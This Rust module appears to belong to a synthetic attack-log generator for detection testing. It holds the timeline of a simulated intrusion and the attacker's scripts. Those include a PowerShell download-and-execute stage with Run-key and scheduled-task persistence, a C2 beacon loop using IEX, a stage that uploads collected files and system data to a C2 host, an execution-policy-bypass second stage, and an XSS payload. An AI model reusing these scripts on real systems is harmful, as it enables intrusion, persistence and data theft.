//! The attack story: fixed times (offsets from the scenario start) and the attacker's scripts, with
//! the encoded forms that appear in command lines. The decoded texts are public so that tests and
//! notebooks can check a decoder's output against them.

use std::io::Write;

use base64::engine::general_purpose::STANDARD;
use base64::Engine;

use crate::common::{DAY, HOUR, MIN, MS, SEC};
use crate::org::{C2_DOMAIN, PAYLOAD_IP, PAYLOAD_URL};

/// Start of the password spray against LRK-DC01 (Tuesday 23:05:00 UTC), offset from the start.
pub const SPRAY_START: i64 = DAY + 23 * HOUR + 5 * MIN;
/// Number of failed logons (4625) in the spray.
pub const SPRAY_FAILURES: usize = 64;
/// The spray's one successful logon, as the compromised user (Tuesday 23:14:41 UTC).
pub const SPRAY_SUCCESS: i64 = DAY + 23 * HOUR + 14 * MIN + 41 * SEC;
/// The compromised user opens the e-mailed document (Wednesday 09:41:12.350 UTC).
pub const DOC_OPEN: i64 = 2 * DAY + 9 * HOUR + 41 * MIN + 12 * SEC + 350 * MS;
/// Word spawns the encoded PowerShell (Wednesday 09:41:29.812 UTC).
pub const ENCODED_POWERSHELL: i64 = 2 * DAY + 9 * HOUR + 41 * MIN + 29 * SEC + 812 * MS;
/// The payload is fetched from the payload host (Wednesday 09:41:35 UTC).
pub const PAYLOAD_DOWNLOAD: i64 = 2 * DAY + 9 * HOUR + 41 * MIN + 35 * SEC;
/// The payload `msupd.exe` starts (Wednesday 09:41:41.527 UTC).
pub const PAYLOAD_START: i64 = 2 * DAY + 9 * HOUR + 41 * MIN + 41 * SEC + 527 * MS;
/// First beacon to the C2 server (Wednesday 09:42:10 UTC); then every [`BEACON_PERIOD`].
pub const BEACON_START: i64 = 2 * DAY + 9 * HOUR + 42 * MIN + 10 * SEC;
/// Period of the C2 beacon.
pub const BEACON_PERIOD: i64 = 300 * SEC;
/// Largest deviation of one beacon from its slot (uniform jitter).
pub const BEACON_JITTER: i64 = 20 * SEC;
/// Discovery commands start from the payload (every [`DISCOVERY_STEP`]).
pub const DISCOVERY_START: i64 = PAYLOAD_START + 2 * MIN + 20 * SEC;
/// Spacing of the three discovery commands.
pub const DISCOVERY_STEP: i64 = 37 * SEC;
/// The command line carrying [`HOSTILE_MARKUP`] runs.
pub const HOSTILE_WRITE: i64 = DISCOVERY_START + 3 * DISCOVERY_STEP + 11 * SEC;
/// The gzip + base64 collection step runs.
pub const COLLECTION: i64 = DISCOVERY_START + 3 * DISCOVERY_STEP + 88 * SEC;
/// The base64-of-base64 second-stage fetch runs.
pub const STAGE2_FETCH: i64 = DISCOVERY_START + 3 * DISCOVERY_STEP + 131 * SEC;
/// The attacker's mailbox session from [`crate::org::ATTACKER_IP`] (Thursday 01:47:10 UTC).
pub const MAILBOX_SESSION: i64 = 3 * DAY + HOUR + 47 * MIN + 10 * SEC;
/// First exfiltration upload (Thursday 02:01:00 UTC): the first NetworkBytes outlier.
pub const EXFIL_1: i64 = 3 * DAY + 2 * HOUR + MIN;
/// Second exfiltration upload (Friday 03:04:00 UTC): the second NetworkBytes outlier.
pub const EXFIL_2: i64 = 4 * DAY + 3 * HOUR + 4 * MIN;
/// Bytes sent by each exfiltration upload.
pub const EXFIL_BYTES: i64 = 5_368_709_120;

/// Host of the attack chain.
pub const COMPROMISED_HOST: &str = "LRK-WS104";
/// Index in [`crate::org::USERS`] of the compromised user (`mbennett`).
pub const COMPROMISED_USER: usize = 0;
/// The hostile string carried by one command line (log fields are attacker-controlled).
pub const HOSTILE_MARKUP: &str = "<img src=x onerror=alert(1)>";
/// Path of the e-mailed macro document.
pub const DOCUMENT_PATH: &str = r"C:\Users\mbennett\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\X7Q2ZK1M\Invoice_Nov2026.docm";
/// Path the payload is written to.
pub const PAYLOAD_PATH: &str = r"C:\Users\mbennett\AppData\Roaming\Microsoft\Update\msupd.exe";
/// Name of the scheduled task the attacker creates.
pub const TASK_NAME: &str = r"Microsoft\Windows\Maintenance\UpdateCheck";

/// Script run by the scheduled task at each logon: the beacon loop (Deflate + base64 in the task).
pub fn beacon_script() -> String {
    format!(
        "$c='https://{C2_DOMAIN}/api/v2/poll';$id=(Get-CimInstance Win32_ComputerSystemProduct).UUID;\
         while($true){{try{{$r=Invoke-RestMethod -Uri \"$c?id=$id\" -UseBasicParsing;if($r){{IEX $r}}}}catch{{}};Start-Sleep -Seconds 300}}"
    )
}

/// Script of the collection step (gzip + base64 in its command line).
pub fn collection_script() -> String {
    format!(
        "$o=\"$env:TEMP\\sys.txt\";whoami /all>$o;ipconfig /all>>$o;\
         Get-ChildItem -Path $env:USERPROFILE\\Documents -Recurse -Include *.xlsx,*.docx,*.pdf|Select-Object FullName,Length|Out-File -Append $o;\
         Invoke-WebRequest -Uri https://{C2_DOMAIN}/api/v2/upload -Method POST -InFile $o -UseBasicParsing"
    )
}

/// Script of the second-stage fetch (base64 of base64 in its command line).
pub fn stage2_script() -> String {
    format!(
        "Invoke-WebRequest -Uri http://{PAYLOAD_IP}/cfg/stage2.ps1 -OutFile $env:TEMP\\s2.ps1 -UseBasicParsing;\
         powershell -nop -ep bypass -f $env:TEMP\\s2.ps1"
    )
}

/// Base64 of the raw Deflate stream of `text` (PowerShell's `DeflateStream` idiom).
pub fn deflate_base64(text: &str) -> String {
    let mut encoder = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
    // Writing into a Vec cannot fail.
    let _ = encoder.write_all(text.as_bytes());
    STANDARD.encode(encoder.finish().unwrap_or_default())
}

/// Base64 of the gzip stream of `text` (PowerShell's `GzipStream` idiom; header mtime 0).
pub fn gzip_base64(text: &str) -> String {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    let _ = encoder.write_all(text.as_bytes());
    STANDARD.encode(encoder.finish().unwrap_or_default())
}

/// Base64 of the UTF-16LE bytes of `text` (PowerShell's `-EncodedCommand`).
pub fn utf16le_base64(text: &str) -> String {
    let bytes: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    STANDARD.encode(bytes)
}

/// The command line the scheduled task runs (also the `/tr` argument of `schtasks.exe`).
pub fn task_command() -> String {
    format!(
        "powershell.exe -nop -w hidden -c \"IEX(New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream(\
         [IO.MemoryStream][Convert]::FromBase64String('{}'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()\"",
        deflate_base64(&beacon_script())
    )
}

/// The first-stage script that Word's macro runs through `powershell -enc` (UTF-16LE base64).
pub fn stage1_script() -> String {
    let task = task_command().replace('\'', "''");
    format!(
        "$u='{PAYLOAD_URL}';$d=\"$env:APPDATA\\Microsoft\\Update\";New-Item -ItemType Directory -Force -Path $d|Out-Null;\
         $p=\"$d\\msupd.exe\";(New-Object Net.WebClient).DownloadFile($u,$p);Start-Process -WindowStyle Hidden $p;\
         reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v MsUpdate /t REG_SZ /d $p /f;\
         schtasks.exe /create /f /sc onlogon /tn '{TASK_NAME}' /tr '{task}'"
    )
}

/// Command line of the encoded first stage, as Word starts it.
pub fn stage1_command() -> String {
    format!(
        "powershell.exe -nop -w hidden -enc {}",
        utf16le_base64(&stage1_script())
    )
}

/// Command line of the collection step (gzip + base64).
pub fn collection_command() -> String {
    format!(
        "powershell.exe -nop -w hidden -c \"IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream(\
         [IO.MemoryStream][Convert]::FromBase64String('{}'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()\"",
        gzip_base64(&collection_script())
    )
}

/// Command line of the second-stage fetch (base64 of base64 of UTF-8).
pub fn stage2_command() -> String {
    let inner = STANDARD.encode(stage2_script());
    let outer = STANDARD.encode(inner);
    format!(
        "powershell.exe -nop -w hidden -c \"$s=[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String(\
         [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{outer}'))));IEX $s\""
    )
}

/// Command line that writes the hostile markup to a file.
pub fn hostile_command() -> String {
    format!(
        "powershell.exe -nop -c \"Set-Content -Path C:\\Users\\Public\\Documents\\readme.html -Value '{HOSTILE_MARKUP}'\""
    )
}

/// Command line of an exfiltration upload of `folder` as `archive`.
pub fn exfil_command(folder: &str, archive: &str) -> String {
    format!(
        "powershell.exe -nop -w hidden -c \"Compress-Archive -Path C:\\Users\\mbennett\\Documents\\{folder} \
         -DestinationPath $env:TEMP\\{archive} -Force;Invoke-WebRequest -Uri https://{C2_DOMAIN}/api/v2/upload \
         -Method POST -InFile $env:TEMP\\{archive} -UseBasicParsing\""
    )
}
